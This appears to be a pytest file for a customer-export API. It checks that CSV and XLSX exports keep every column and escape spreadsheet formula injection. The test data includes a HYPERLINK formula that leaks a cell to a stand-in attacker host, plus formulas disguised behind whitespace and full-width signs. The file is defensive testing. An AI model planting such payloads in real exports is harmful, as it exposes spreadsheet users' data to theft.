"""Exports as a marketer opens them: the filtered list, every column, no formula ever runs."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from accounts.schemas import MerchantOut
from customers.schemas import CustomerCreate, PurchaseCreate
from customers.services import customers as customer_service
from customers.services import purchases

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def auth(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


async def seed(merchant: MerchantOut) -> None:
    evil = await customer_service.create_customer(
        merchant.id,
        CustomerCreate(
            email="evil@example.com",
            first_name=EVIL,
            last_name="-2+3",
            city="@SUM(A1:A9)",
            phone="+49 30 123",
            customer_type="loyal",
            birth_date=date(1970, 1, 2),
            custom_fields={"note": "\tTabbed", "tier": "gold", "visits": 7},
            send_optin=False,
        ),
    )
    await purchases.add_purchase(merchant.id, evil.id, PurchaseCreate(amount=Decimal("19.90")))
    await customer_service.create_customer(
        merchant.id,
        CustomerCreate(
            email="plain@example.com",
            first_name="Paula",
            customer_type="non_member",
            custom_fields={"member_number": "M-1"},
            send_optin=False,
        ),
    )


async def test_csv_export_has_every_column_and_neutralises_formulas(
    client: Any, api_token: str, merchant: MerchantOut
) -> None:
    await seed(merchant)
    response = await client.get(
        "/api/customers/export.csv?sort=email&order=asc", headers=auth(api_token)
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "customers.csv" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["email"] for r in rows] == ["evil@example.com", "plain@example.com"]
    header = list(rows[0])
    assert header[:11] == [
        "email",
        "first_name",
        "last_name",
        "gender",
        "birth_date",
        "locale",
        "country",
        "city",
        "postal_code",
        "phone",
        "customer_type",
    ]
    assert header[11:16] == [
        "email_status",
        "subscribed",
        "created_at",
        "purchase_count",
        "lifetime_value",
    ]
    assert header[16:] == ["custom.member_number", "custom.note", "custom.tier", "custom.visits"]
    evil = rows[0]
    assert evil["first_name"] == "'" + EVIL
    assert evil["last_name"] == "'-2+3"
    assert evil["city"] == "'@SUM(A1:A9)"
    assert evil["phone"] == "'+49 30 123"
    assert evil["custom.note"] == "'\tTabbed"
    assert (evil["custom.tier"], evil["custom.visits"], evil["custom.member_number"]) == (
        "gold",
        "7",
        "",
    )
    assert (evil["birth_date"], evil["purchase_count"], evil["lifetime_value"]) == (
        "1970-01-02",
        "1",
        "19.90",
    )
    assert (evil["email_status"], evil["subscribed"]) == ("unverified", "true")
    assert rows[1]["first_name"] == "Paula"


async def test_export_uses_the_list_filters_and_refuses_bad_ones(
    client: Any, api_token: str, merchant: MerchantOut
) -> None:
    await seed(merchant)
    loyal = await client.get(
        "/api/customers/export.csv?customer_type=loyal&page=3&per_page=1", headers=auth(api_token)
    )
    emails = [r["email"] for r in csv.DictReader(io.StringIO(loyal.content.decode("utf-8-sig")))]
    assert emails == ["evil@example.com"]
    searched = await client.get("/api/customers/export.csv?q=paula", headers=auth(api_token))
    assert "plain@example.com" in searched.text and "evil@" not in searched.text
    bad = await client.get("/api/customers/export.csv?customer_type=gold", headers=auth(api_token))
    assert bad.status_code == 422 and "customer_type" in bad.json()["fields"]
    unknown = await client.get("/api/customers/export.xlsx?colour=red", headers=auth(api_token))
    assert unknown.status_code == 422


async def test_xlsx_export_keeps_formulas_as_text(
    client: Any, api_token: str, merchant: MerchantOut
) -> None:
    await seed(merchant)
    response = await client.get(
        "/api/customers/export.xlsx?sort=email&order=asc", headers=auth(api_token)
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    header = [c.value for c in rows[0]]
    evil = {name: cell for name, cell in zip(header, rows[1], strict=False)}
    assert evil["first_name"].value == "'" + EVIL
    assert evil["first_name"].data_type == "s"
    assert evil["city"].value == "'@SUM(A1:A9)"
    assert evil["birth_date"].value.date() == date(1970, 1, 2)
    assert evil["lifetime_value"].value == 19.9
    assert evil["custom.visits"].value == 7
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    assert [c.value for c in rows[2]][0] == "plain@example.com"


async def test_an_empty_export_still_has_its_header(client: Any, api_token: str) -> None:
    response = await client.get("/api/customers/export.csv", headers=auth(api_token))
    assert response.status_code == 200
    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 1 and lines[0].startswith("email,first_name")


#: Formulas in disguise (issue 21, finding 8): whitespace before the sign, which spreadsheets
#: trim, and the full-width and small forms some spreadsheets take for the ASCII sign.
DISGUISED = {
    "space": ' =HYPERLINK("http://evil.example","x")',
    "ideographic_space": "\u3000=1+1",
    "newline": "\n=1+1",
    "fullwidth_equals": "＝1+1",
    "fullwidth_plus": "＋1+1",
    "fullwidth_minus": "－1+1",
    "fullwidth_at": "＠SUM(A1:A9)",
    "small_equals": "﹦1+1",
    "minus_sign": "−1+1",
    "tab_first": "\t=1+1",
    "return_first": "\r=1+1",
}
HARMLESS = {"leading_space": " Anna", "fullwidth_text": "ｔｅｓｔ", "inner_sign": "a=b"}


async def seed_disguised(merchant: MerchantOut) -> None:
    await customer_service.create_customer(
        merchant.id,
        CustomerCreate(
            email="disguised@example.com",
            city="＝1+1",
            custom_fields={**DISGUISED, **HARMLESS},
            send_optin=False,
        ),
    )


def csv_cells(content: bytes) -> dict[str, Any]:
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return dict(row)


def xlsx_cells(content: bytes) -> dict[str, Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    header, row = ([cell.value for cell in cells] for cells in sheet.iter_rows())
    return dict(zip(header, row, strict=True))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_export_neutralises_formulas_behind_whitespace_and_full_width_signs(
    client: Any, api_token: str, merchant: MerchantOut, kind: str
) -> None:
    await seed_disguised(merchant)
    response = await client.get(f"/api/customers/export.{kind}", headers=auth(api_token))
    assert response.status_code == 200
    cells = (csv_cells if kind == "csv" else xlsx_cells)(response.content)
    assert cells["city"] == "'＝1+1"
    for name, value in DISGUISED.items():
        assert cells[f"custom.{name}"] == "'" + value, name
    for name, value in HARMLESS.items():
        assert cells[f"custom.{name}"] == value, name
